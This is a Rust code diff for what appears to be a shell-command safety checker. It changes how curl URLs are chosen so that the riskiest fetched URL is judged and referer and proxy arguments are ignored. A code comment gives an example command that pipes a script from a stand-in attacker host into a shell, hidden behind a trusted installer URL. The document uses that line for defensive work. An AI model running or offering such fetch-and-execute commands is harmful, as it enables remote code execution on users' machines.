@@ -1512,9 +1512,24 @@ fn public_address(url: Option<&str>) -> bool {
     ip.is_some_and(|ip| !(ip.is_loopback() || ip.is_private() || ip.is_link_local() || ip.is_unspecified() || ip.is_documentation()))
 }
 
-/// The first URL-ish argument of a downloader.
+/// The riskiest URL a downloader fetches (the first of equals): curl
+/// fetches every URL it is given into the same output (`curl -fsSL
+/// https://sh.rustup.rs https://evil.example/x.sh | sh` runs both), and a
+/// referer or a proxy is no URL it fetches (`-e https://sh.rustup.rs`
+/// must not vouch for the script).
 fn url_of(c: &Cmd) -> Option<String> {
-    c.arg_texts().find(|t| super::has(t, "://") || (!t.starts_with('-') && t.contains('.') && t.contains('/'))).map(str::to_owned)
+    let urlish = |t: &str| super::has(t, "://") || (!t.starts_with('-') && t.contains('.') && t.contains('/'));
+    let mut prev = "";
+    let mut all: Vec<&str> = Vec::new();
+    for t in c.arg_texts().take(256) {
+        let not_fetched = matches!(prev, "-e" | "--referer" | "-x" | "--proxy" | "--preproxy");
+        if urlish(t) && !not_fetched && !t.starts_with("--referer=") && !t.starts_with("--proxy=") && !t.starts_with("--preproxy=") {
+            all.push(t);
+        }
+        prev = t;
+    }
+    // (`max_by_key` keeps the last of equals: reversed, the first.)
+    all.into_iter().rev().max_by_key(|t| url_risk(Some(t))).map(str::to_owned)
 }
 
 /// Known installer hosts (`curl … | sh` from them is common in CI).
